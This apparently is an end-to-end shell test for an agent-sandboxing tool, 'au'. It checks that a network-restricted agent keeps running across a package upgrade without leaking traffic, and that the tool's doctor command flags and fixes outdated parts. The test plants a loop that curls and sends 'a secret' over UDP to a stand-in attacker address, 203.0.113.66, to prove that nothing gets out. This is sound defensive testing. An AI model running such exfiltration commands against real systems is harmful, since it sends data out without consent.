#!/bin/sh
# A newer package over an older one, while a restricted agent runs: the run goes on, nothing leaves, and au says what renews what is old.
# machines: trixie
# machines by hand: bookworm
# packages: deb and rpm
. /opt/e2e/lib.sh
. /opt/e2e/tests/internet/up.sh
command -v nft >/dev/null || skip "no nft"
rm -r /usr/local/bin/au /usr/local/libexec/au
hash -r
ok dpkg --install /opt/packages/old/*.deb
ok as alice au --version
says_exactly "au 0.0.9"
ok as alice au new -y
internet_up
ok as alice au net restrict --allow allowed.test
soon agent curl -sS --max-time 20 https://allowed.test/

# All the while the agent sends to the attacker, and asks what it may.
cat >/run/internet/send.sh <<'SH'
while [ ! -e /run/internet/enough ]; do
	curl -sS --max-time 1 -o /dev/null https://203.0.113.66/ 2>/dev/null
	python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"a secret", ("203.0.113.66", 443))' 2>/dev/null
	echo "$(id -un)"
done
SH
chmod 755 /run/internet /run/internet/send.sh
as alice sh -c 'au run sh /run/internet/send.sh >sent 2>err; echo $? >status' &
running=$!
soon grep -q agent /home/alice/sent
seen=$(attacked)
goes_on() {
	: >/home/alice/sent
	soon grep -q agent /home/alice/sent
	[ ! -e /home/alice/status ] || fail "the run ended with $(cat /home/alice/status): $(cat /home/alice/err)"
	[ "$(attacked)" = "$seen" ] || fail "$(($(attacked) - seen)) packets reached the attacker"
}
goes_on

promise="the run goes on over the upgrade, and nothing leaves"
ok dpkg --install /opt/packages/new/*.deb
says "au: the entrypoint of agent agent is of another version of au"
ok as alice au --version
says_not "0.0.9"
goes_on
ok agent curl -sS --max-time 20 https://allowed.test/

promise="au says what is old, and what renews it"
ok as alice au net status
complains "another version of au than this one holds the network of agent agent: au net restrict --agent agent"
ok as alice au info
says "hint: au net restrict --agent agent"
ok as alice au doctor
says "advice entrypoint-old: agent agent:"
says "advice net-outdated: agent agent:"
says "0 broken,"

promise="what is old is renewed while the run goes on, and nothing leaves"
ok as alice au doctor --fix -y
goes_on
cmp /usr/libexec/au/su_as_agent /usr/local/libexec/au/agent/su_as_agent || fail "the entrypoint is the older one"
cmp /usr/libexec/au/au-complete /usr/local/libexec/au/agent/au || fail "the network's program is the older one"
ok as alice au doctor
says_not "-old: agent"
says_not "net-outdated"
soon agent curl -sS --max-time 20 https://allowed.test/
: >/run/internet/enough
wait $running || true
[ "$(cat /home/alice/status)" = 0 ] || fail "the run ended with $(cat /home/alice/status): $(cat /home/alice/err)"
[ "$(attacked)" = "$seen" ] || fail "$(($(attacked) - seen)) packets reached the attacker"
ok as alice au net off
